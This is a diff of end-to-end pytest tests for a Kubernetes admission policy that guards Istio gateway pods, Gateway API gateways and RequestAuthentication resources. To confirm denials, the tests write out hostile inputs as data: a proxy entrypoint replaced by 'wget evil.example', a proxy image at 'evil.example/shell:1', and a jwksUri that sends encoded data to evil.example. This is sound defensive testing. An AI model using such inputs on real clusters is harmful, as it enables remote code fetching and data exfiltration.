@@ -28,7 +28,7 @@ from tests.e2e.scenarios import (
     run,
     wait_for,
 )
-from tests.manifests import pod, static_service_entry
+from tests.manifests import PAUSE, pod, static_service_entry
 
 pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]
 
@@ -348,6 +348,100 @@ def test_gateway_api_gateway_of_class_istio_is_admitted(derived: Kubectl, namesp
         },
     }
     assert_admitted(create(derived, gateway))
+
+
+REPLICASET_CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller"
+
+
+def istiod_gateway_pod(namespace: str, **container: Any) -> dict[str, Any]:
+    """A Pod of istiod's Deployment for Gateway ``web`` as its kube-gateway template renders
+    it: injection off, the proxy written out with "proxy router" arguments."""
+    manifest = pod(
+        namespace,
+        "web-istio-7c9-abcde",
+        labels={
+            "sidecar.istio.io/inject": "false",
+            "gateway.networking.k8s.io/gateway-name": "web",
+            "gateway.networking.k8s.io/gateway-class-name": "istio",
+            "gateway.istio.io/managed": "istio.io-gateway-controller",
+        },
+    )
+    manifest["spec"]["containers"] = [
+        {
+            "name": "istio-proxy",
+            "image": PAUSE,
+            "args": ["proxy", "router", "--domain", f"{namespace}.svc.cluster.local"],
+            "securityContext": {"runAsUser": 1337, "runAsGroup": 1337, "runAsNonRoot": True},
+            **container,
+        }
+    ]
+    return manifest
+
+
+def test_istiods_gateway_pod_is_admitted_and_only_as_rendered(
+    derived: Kubectl, ready_namespace: str
+) -> None:
+    # created by the ReplicaSet controller from istiod's Deployment: Istio's injector skips
+    # it (injection off), and no injector status is asked of it
+    as_controller = f"--as={REPLICASET_CONTROLLER}"
+    gateway_pod = json.dumps(istiod_gateway_pod(ready_namespace))
+    assert_admitted(run(derived, "create", "-f", "-", as_controller, input=gateway_pod))
+    # the same proxy with another entrypoint is not istiod's, whoever writes it
+    rewritten = istiod_gateway_pod(ready_namespace, command=["sh", "-c", "wget evil.example"])
+    rewritten["metadata"]["name"] = "web-istio-7c9-fghij"
+    outcome = run(derived, "create", "-f", "-", as_controller, input=json.dumps(rewritten))
+    assert_denied(outcome, "entrypoint of the gateway proxy")
+
+
+@pytest.mark.parametrize(
+    ("metadata", "infrastructure", "needle"),
+    [
+        ({"annotations": {"sidecar.istio.io/proxyImage": "evil.example/shell:1"}}, {}, "image"),
+        ({}, {"parametersRef": {"group": "", "kind": "ConfigMap", "name": "web"}}, "ConfigMap"),
+        ({}, {"labels": {"gateway-name": "egress-google", "gateway-type": "egress"}}, "selector"),
+    ],
+)
+def test_gateway_api_gateway_rewriting_its_proxy_is_refused(
+    derived: Kubectl,
+    namespace: str,
+    metadata: dict[str, Any],
+    infrastructure: dict[str, Any],
+    needle: str,
+) -> None:
+    if derived("get", "crd", "gateways.gateway.networking.k8s.io").returncode != 0:
+        pytest.skip("no Gateway API CRDs in this cluster")
+    spec: dict[str, Any] = {
+        "gatewayClassName": "istio",
+        "listeners": [{"name": "http", "port": 80, "protocol": "HTTP"}],
+    }
+    if infrastructure:
+        spec["infrastructure"] = infrastructure
+    gateway = {
+        "apiVersion": "gateway.networking.k8s.io/v1",
+        "kind": "Gateway",
+        "metadata": {"name": "web", "namespace": namespace, **metadata},
+        "spec": spec,
+    }
+    assert_denied(create(derived, gateway), needle)
+
+
+def request_authentication(namespace: str, rule: dict[str, Any]) -> dict[str, Any]:
+    return {
+        "apiVersion": "security.istio.io/v1",
+        "kind": "RequestAuthentication",
+        "metadata": {"name": "jwt", "namespace": namespace},
+        "spec": {"jwtRules": [rule]},
+    }
+
+
+def test_request_authentication_fetching_from_any_host_is_refused(
+    derived: Kubectl, namespace: str
+) -> None:
+    # istiod would fetch the URL, with what the tenant wrote into it, past the egress gateway
+    exfiltrating = {"issuer": "x", "jwksUri": "https://evil.example/k?d=c2VjcmV0"}
+    assert_denied(create(derived, request_authentication(namespace, exfiltrating)), "istiod")
+    inline = {"issuer": "https://evil.example", "jwks": '{"keys": []}'}
+    assert_admitted(create(derived, request_authentication(namespace, inline)))
 
 
 def test_public_name_on_ingress_and_mesh_routed_in_cluster_is_admitted(
